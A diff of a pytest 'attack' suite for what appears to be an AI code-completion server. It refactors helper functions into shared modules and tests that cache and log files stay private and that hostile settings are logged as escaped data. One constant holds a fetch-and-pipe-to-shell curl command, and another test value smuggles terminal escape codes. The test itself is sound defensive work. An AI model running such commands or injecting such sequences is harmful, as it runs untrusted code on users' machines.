@@ -4,33 +4,28 @@ as data: one line, its control characters escaped."""
 
 from __future__ import annotations
 
-import asyncio
-import os
 import re
 import stat
-from collections.abc import Iterator
-from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 
 from tests.cli.helpers import APP, answer, check_env, run_check
-from tests.e2e.harness import clean_env, cursor_of, inline_texts, open_file, running_server
+from tests.e2e.harness import (
+    clean_env,
+    cursor_of,
+    eventually,
+    inline_texts,
+    open_file,
+    running_server,
+)
+from tests.umask import umask
 
 pytestmark = pytest.mark.attack  # the hostile-repository suite: `pytest -m attack`
 
 DOCUMENT = "def add(a, b):\n    return █\n"
 SHELL_LINE = "curl -s http://127.0.0.1:9/payload | sh"
 LOG_LINE = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ [A-Z]+ \S+: ")
-
-
-@contextmanager
-def umask(mask: int) -> Iterator[None]:
-    old = os.umask(mask)
-    try:
-        yield
-    finally:
-        os.umask(old)
 
 
 def loose(root: Path) -> list[str]:
@@ -41,14 +36,6 @@ def loose(root: Path) -> list[str]:
         if mode != (0o700 if path.is_dir() else 0o600):
             found.append(f"{path} {oct(mode)}")
     return found
-
-
-async def _eventually(predicate, timeout: float = 10.0) -> bool:
-    for _ in range(int(timeout / 0.05)):
-        if predicate():
-            return True
-        await asyncio.sleep(0.05)
-    return predicate()
 
 
 @pytest.mark.parametrize("mask", [0o022, 0o000])
@@ -66,8 +53,8 @@ async def test_everything_the_server_keeps_is_private(fake_llm, tmp_path: Path, 
             uri = open_file(client, project / "ops.py", "python", text)
             assert await inline_texts(client, uri, position) == ["a + b"]
             # while it runs: SQLite's side files (-wal, -shm) are there too
-            assert await _eventually(lambda: (cache / "prompt-modes.json").exists())
-            assert await _eventually(lambda: (cache / "answers" / "cache.db-wal").exists())
+            assert await eventually(lambda: (cache / "prompt-modes.json").exists())
+            assert await eventually(lambda: (cache / "answers" / "cache.db-wal").exists())
             assert loose(cache) == [] and loose(logs) == []
     kept = {p.relative_to(cache).as_posix() for p in cache.rglob("*")}
     assert {"answers", "answers/cache.db", "spend.db", "prompt-modes.json", "index"} <= kept
@@ -107,7 +94,7 @@ async def test_a_setting_that_holds_a_line_of_shell_is_logged_and_shown_as_data(
     env = clean_env(tmp_path)
     options = {"provider": "openai-compatible", "baseUrl": fake_llm.openai_base_url}
     async with running_server(project, env, init_options=options) as client:
-        assert await _eventually(lambda: len(client.messages) >= 2)
+        assert await eventually(lambda: len(client.messages) >= 2)
         shown = [m.message for m in client.messages if "unknown setting" in m.message]
     assert f"unknown setting 'x\\n{SHELL_LINE}\\n' ignored" in shown[0]
     assert "unknown setting 'title\\x1b]0;owned\\x07\\x1b[2J' ignored" in shown[1]
